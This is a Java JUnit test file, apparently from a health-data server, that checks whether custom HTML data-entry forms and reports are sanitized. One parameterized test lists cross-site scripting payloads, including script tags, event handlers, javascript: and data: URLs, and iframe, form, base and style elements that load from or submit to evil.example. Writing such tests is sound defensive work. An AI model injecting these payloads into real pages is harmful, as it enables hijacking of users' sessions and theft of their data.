package org.kituo.server.form;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.kituo.server.SmallForm;
import org.kituo.server.TestClient;
import org.kituo.server.TestServer;

/** Custom forms as they reach a browser. */
class CustomFormTest {
  private static final TestClient admin = TestServer.shared().admin();
  private static final String COMBO = "HllvX50cXC0";

  private static SmallForm formOf(String html) {
    SmallForm form = SmallForm.on(admin);
    admin.send("POST", "/api/dataSets/" + form.set() + "/form", "text/html", html).expect(204);
    return form;
  }

  private static String shown(SmallForm form) {
    return String.valueOf(
        admin.get("/api/dataEntry/customForms/" + form.set()).expect(200).value("form"));
  }

  private static String reported(SmallForm form, String period) {
    return admin
        .get(
            "/api/dataSetReport/custom?ds=%s&pe=%s&ou=%s"
                .formatted(form.set(), period, form.unit()))
        .expect(200)
        .body();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<script>steal()</script> | steal",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT> | evil",
        "<b onclick=steal()>b</b> | steal",
        "<img src=x onerror=steal()> | steal",
        "<input name=a autofocus onfocus=steal()> | steal",
        "<a href=javascript:steal()>a</a> | steal",
        "<a href='java&#x09;script:steal()'>a</a> | steal",
        "<a href='data:text/html;base64,c3RlYWw='>a</a> | data:",
        "<iframe src=https://evil.example></iframe> | evil",
        "<object data=https://evil.example></object> | evil",
        "<embed src=https://evil.example> | evil",
        "<svg><animate onbegin=steal() attributeName=x></svg> | steal",
        "<form action=https://evil.example><button>Save</button></form> | evil",
        "<button formaction=https://evil.example>Save</button> | evil",
        "<base href=https://evil.example> | evil",
        "<div style='background: url(https://evil.example/x)'>d</div> | evil",
        "<style>@import 'https://evil.example/x.css'</style> | evil",
        "<!--><img src=x onerror=steal()>--> | <img src=x on",
        "<noscript><style></noscript><img src=x onerror=steal()> | <img src=x on"
      })
  void aFormCannotActInTheNameOfItsReader(String danger, String trace) {
    SmallForm form = formOf("<p>Kept</p>" + danger);
    assertThat(shown(form)).contains("<p>Kept</p>").doesNotContain(trace);
    assertThat(reported(form, "202001")).contains("<p>Kept</p>").doesNotContain(trace);
  }

  @Test
  void aTitleCannotBreakOutOfItsInput() {
    SmallForm form = SmallForm.on(admin);
    String input =
        "<input title=\"><img src=x onerror=steal()>\" id=\"%s-%s-val\">"
            .formatted(form.element(), COMBO);
    admin.send("POST", "/api/dataSets/" + form.set() + "/form", "text/html", input).expect(204);
    assertThat(shown(form)).contains("name=\"entryfield\"").doesNotContain("<img");
  }

  @Test
  void theStoredFormStaysAsWritten() {
    String html = "<table><tr><td onclick=\"f()\">1</td></tr></table><script>f()</script>";
    SmallForm form = formOf(html);
    admin
        .get("/api/dataSets/" + form.set() + "?fields=dataEntryForm[htmlCode]")
        .expect(200)
        .has("dataEntryForm.htmlCode", html);
  }

  @Test
  void aTableOfInputsIsGivenOutAsItWasWritten() {
    SmallForm form = SmallForm.on(admin);
    String input = "<input id=\"%s-%s-val\" name=\"entryfield\"".formatted(form.element(), COMBO);
    String html = "<table><tr><td>%s/></td></tr></table>".formatted(input);
    admin.send("POST", "/api/dataSets/" + form.set() + "/form", "text/html", html).expect(204);
    assertThat(shown(form))
        .startsWith("<table><tr><td>" + input + " type=\"text\"")
        .endsWith("</span></td></tr></table>");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<h3 class=\"title\">Births</h3>",
        "<div class=\"box\" style=\"text-align:center;display:none\">d</div>",
        "<table border=\"1\" cellpadding=\"2\"><tr><th colspan=\"2\" scope=\"col\">h</th></tr></table>",
        "<table><colgroup><col width=\"20\"/></colgroup><tr><td rowspan=\"2\">1</td></tr></table>",
        "<input indicatorid=\"abcdefghij1\" id=\"indicatorabcdefghij1\" name=\"indicator\" readonly=\"readonly\" value=\"1\" title=\"t\" tabindex=\"3\"/>",
        "<input dataelementid=\"abcdefghij1\" id=\"totalabcdefghij1\" name=\"total\" disabled=\"disabled\"/>",
        "<label for=\"a\">A</label><select id=\"a\"><option value=\"1\" selected=\"selected\">One</option></select>",
        "<img src=\"../api/documents/abcdefghij1/data\" alt=\"Crest\" height=\"40\"/>",
        "<span>Total</span>",
        "<ul><li><strong>1</strong></li></ul>"
      })
  void whatFormsAreMadeOfIsKept(String html) {
    assertThat(shown(formOf(html))).isEqualTo(html);
  }

  @Test
  void theReportShowsFiguresInTheForm() {
    SmallForm form = SmallForm.on(admin);
    admin
        .send(
            "POST",
            "/api/dataSets/" + form.set() + "/form",
            "text/html",
            "<p>Births <input id=\"%s-%s-val\"></p>".formatted(form.element(), COMBO))
        .expect(204);
    form.enter(admin, "202001", "41").expect(200);
    String report = "/api/dataSetReport/custom?ds=%s&pe=202001&ou=%s&selectedUnitOnly=true";
    assertThat(admin.get(report.formatted(form.set(), form.unit())).expect(200).body())
        .isEqualTo("<p>Births 41</p>");
  }
}
